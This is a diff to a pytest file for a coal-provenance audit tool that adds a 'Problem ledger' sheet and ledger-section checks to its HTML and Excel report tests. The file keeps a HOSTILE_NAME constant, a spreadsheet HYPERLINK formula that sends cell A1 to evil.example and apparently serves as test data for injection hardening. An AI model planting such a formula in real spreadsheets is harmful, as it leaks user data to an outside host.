@@ -15,6 +15,7 @@ import pytest
 from typer.testing import CliRunner
 
 from coaltrace.cli import app
+from coaltrace.report.ledger import ledger_sections
 from coaltrace.rules import run_audit
 from coaltrace.store import Store
 from coaltrace.yard.sheet import render_yard_html
@@ -23,7 +24,10 @@ from tests.provenance_helpers import mine, sale
 pytestmark = pytest.mark.slow
 
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1, "click")'
-SHEETS = {"zh": ["汇总", "问题线索", "证据", "涉险流向"], "en": ["Summary", "Findings", "Evidence", "Flows at risk"]}
+SHEETS = {
+    "zh": ["汇总", "问题线索", "证据", "涉险流向", "问题台账"],
+    "en": ["Summary", "Findings", "Evidence", "Flows at risk", "Problem ledger"],
+}
 
 
 @pytest.fixture(scope="module")
@@ -67,7 +71,7 @@ def _header(ws: Any) -> list[str]:
 def test_the_workbook_has_its_sheets_headers_and_text_ids(month: Path, tmp_path: Path, lang: str) -> None:
     _report(month / "coaltrace.duckdb", tmp_path, lang)
     wb = openpyxl.load_workbook(tmp_path / "report.xlsx")
-    assert wb.sheetnames == SHEETS[lang]  # no ledger yet: no ledger sheet
+    assert wb.sheetnames == SHEETS[lang]  # the audit filed the ledger: its sheet comes last
     findings = wb[SHEETS[lang][1]]
     head = _header(findings)
     if lang == "zh":
@@ -118,7 +122,7 @@ def test_the_page_says_gaps_first_in_chinese_with_names_and_false_positives(mont
     page = (tmp_path / "report.html").read_text(encoding="utf-8")
     order = [page.index(f'<section id="{s}">') for s in ("gaps", "headline", "charts", "ledger", "rules", "params")]
     assert order == sorted(order)
-    assert "尚无问题台账" in page
+    assert re.search(r"本期 \d+ 项；销号率", page)  # the audit filed its findings in the ledger
     with Store(month / "coaltrace.duckdb", read_only=True) as s:
         f = s.query(
             "SELECT f.rule_id, f.county, r.name FROM findings f JOIN facilities r USING (facility_id) "
@@ -161,22 +165,29 @@ def test_a_bureau_puts_its_letterhead_and_its_own_template(month: Path, tmp_path
     assert res.exit_code == 2 and "nope" in res.output
 
 
-def test_the_ledger_section_shows_what_the_store_holds(month: Path, tmp_path: Path) -> None:
-    db = tmp_path / "copy.duckdb"
-    db.write_bytes((month / "coaltrace.duckdb").read_bytes())
-    with Store(db) as s:
-        s.con.execute("CREATE TABLE ledger_items (item_id VARCHAR, period VARCHAR, county VARCHAR, status VARCHAR)")
-        s.con.execute(
-            "INSERT INTO ledger_items VALUES ('L001', '2021-12', '泽州县', 'open'), ('L002', '2021-12', '阳城县', 'closed'), "
-            "('L003', '2021-11', '阳城县', 'open')"
-        )
+def test_the_ledger_section_shows_the_periods_items_by_county(month: Path, tmp_path: Path) -> None:
+    db = month / "coaltrace.duckdb"
+    listed = CliRunner().invoke(app, ["ledger", "list", "--period", "2021-12", "--db", str(db), "--json"])
+    assert listed.exit_code == 0, listed.output
+    items = json.loads(listed.stdout)
+    assert items, "the demo month's audit files items"
+    by_county: dict[str, int] = {}
+    for item in items:
+        county = item["county"] or "none"  # an item known by a plate or a power account may have no county
+        by_county[county] = by_county.get(county, 0) + 1
     _report(db, tmp_path / "r", "en")
     page = (tmp_path / "r" / "report.html").read_text(encoding="utf-8")
-    section = page[page.index('<section id="ledger">') : page.index("</section>", page.index('<section id="ledger">'))]
-    assert "2 items" in section and "L001" in section and "L002" in section and "L003" not in section
+    start = page.index('<section id="ledger">')
+    section = page[start : page.index("</section>", start)]
+    assert f"{len(items)} items this period" in section
+    for county, n in by_county.items():
+        assert re.search(rf"<td>{re.escape(county)}</td><td>{n}</td>", section), county
     wb = openpyxl.load_workbook(tmp_path / "r" / "report.xlsx")
-    ledger = [n for n in wb.sheetnames if n.startswith("Ledger")]
-    assert ledger and [r[0] for r in wb[ledger[0]].iter_rows(min_row=2, values_only=True)] == ["L001", "L002"]
+    rows = list(wb["Problem ledger"].iter_rows(min_row=2, values_only=True))
+    assert {r[0]: r[1] for r in rows} == by_county  # counts stay numbers in the workbook
+    # Without a ledger the section says so, and the workbook has no ledger sheet.
+    (none,) = ledger_sections(None, "zh")
+    assert "尚无问题台账" in (none.note or "") and not none.rows
 
 
 def test_the_yard_page_shows_fields_it_has_and_leaves_out_those_it_has_not() -> None:
@@ -274,5 +285,6 @@ def test_a_store_that_was_loaded_but_not_audited_has_a_report(month: Path, tmp_p
     _report(db, tmp_path / "r", "zh")
     page = (tmp_path / "r" / "report.html").read_text(encoding="utf-8")
     assert "尚未运行审计" in page and 'class="chart-map"' in page  # the facilities are on the map still
+    assert "尚无问题台账" in page  # nothing filed before an audit
     wb = openpyxl.load_workbook(tmp_path / "r" / "report.xlsx")
-    assert wb.sheetnames == SHEETS["zh"]
+    assert wb.sheetnames == SHEETS["zh"][:4]
